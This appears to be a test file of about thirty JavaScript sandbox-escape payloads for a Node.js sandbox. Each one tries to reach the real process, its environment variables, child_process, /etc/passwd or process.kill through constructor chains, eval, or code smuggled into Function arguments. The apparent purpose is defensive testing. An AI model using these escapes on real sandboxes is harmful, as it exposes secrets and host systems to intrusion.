//// Function constructor of a function
(() => {}).constructor('return process.env')()
//// Function constructor of an async function
(async () => {}).constructor('return process.env')()
//// Function constructor of a generator
[...(function* () {}).constructor('yield process.env')()]
//// Function constructor of a host function
host.add.constructor('return this')().process?.env
//// constructor chain of a number
(1).constructor.constructor('return globalThis')().process?.env
//// constructor chain of a host object
host.constructor.constructor('return process.mainModule')()
//// constructor of the result of a host function
host.make().constructor.constructor('return globalThis.require("child_process")')()
//// constructor of a host error
try { host.fail() } catch (e) { e.constructor.constructor('return process.binding')() }
//// constructor of a promise of the host
host.later().constructor.constructor('return process')().dlopen
//// constructor of a timer
setTimeout(() => {}, 0).constructor.constructor('return process')().kill(1)
//// constructor of console
console.constructor.constructor('return process')().abort()
//// indirect eval
(0, eval)('process.env')
//// eval in a with scope
new Function('with (globalThis) { return process.env }')()
//// Reflect.construct of Function
Reflect.construct(Function, ['return process.env'])()
//// Function.prototype.constructor
Function.prototype.constructor('return process.env')()
//// GeneratorFunction prototype
Object.getPrototypeOf(function* () {}).constructor('return process.env')().next().value
//// AsyncFunction that imports
Object.getPrototypeOf(async () => {}).constructor('return require("fs").readFileSync("/etc/passwd", "utf8")')()
//// Function with a default parameter
Function('a = process.env', 'return a')()
//// Function with a comment that ends the parameters
Function('/*', '*/){ return process.env')()
//// Function with a name that breaks out
Function('}); return process.env; (function () {')()
//// RegExp constructor
RegExp.prototype.constructor.constructor('return process.env')()
//// constructor of the module object
require('events').constructor.constructor('return process.env')()
//// constructor of Buffer
Buffer.constructor('return process.env')()
//// constructor of a web class
URL.constructor('return process.env')()
//// constructor of a stream's prototype
require('stream').Readable.prototype.constructor.constructor('return process.env')()
//// new.target of a host function
Reflect.construct(host.add, [], class { static get prototype() { return process } }).env
//// construct a host function
new host.add(1, 2)
//// a class that extends a host function
new (class extends host.add { constructor() { super(1, 2) } })()
//// Symbol.hasInstance of a host object
({} instanceof { [Symbol.hasInstance]: host.add })
//// bind a host function to global
host.secretOf.bind(globalThis)('x')
